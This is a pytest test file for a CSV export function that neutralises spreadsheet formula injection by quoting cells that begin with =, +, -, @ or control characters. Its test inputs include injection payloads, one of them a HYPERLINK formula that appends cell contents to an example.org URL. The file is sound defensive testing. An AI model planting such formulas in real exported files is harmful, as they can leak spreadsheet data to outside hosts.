"""A file that a spreadsheet opens runs nothing that someone wrote."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from journal.people.csv_export import FORMULA, cell, csv_response, csv_text


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.org?x="&A1,"Look")',
        "+1",
        "-1 from the list",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",  # the wide sign of a Japanese keyboard
    ],
)
def test_text_that_would_be_a_formula_is_text(text):
    assert cell(text) == f"'{text}"


def test_other_text_stays_as_it_is():
    for text in ("Walk after lunch", "7 = seven", "", "a-b", "' quoted", " =1", "1+1"):
        assert cell(text) == text


def test_numbers_and_dates_are_values_and_nothing_is_nothing():
    values = (7, -2, 0.25, Decimal("3.4"), date(2026, 11, 20), None)

    assert [cell(value) for value in values] == ["7", "-2", "0.25", "3.4", "2026-11-20", ""]


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1)))
def test_every_cell_comes_back_and_none_begins_a_formula(rows):
    read = list(csv.reader(io.StringIO(csv_text(rows), newline="")))

    assert read == [[cell(value) for value in row] for row in rows]
    assert not any(value.startswith(FORMULA) for row in read for value in row)


def test_the_file_is_whole_and_says_what_it_is():
    answer = csv_response([("Promise", "Kept"), ('Say "né", then\nrest', 7)], "figures.csv")

    assert not answer.streaming
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="figures.csv"'
    assert answer.content.decode() == ('"Promise","Kept"\r\n"Say ""né"", then\nrest","7"\r\n')
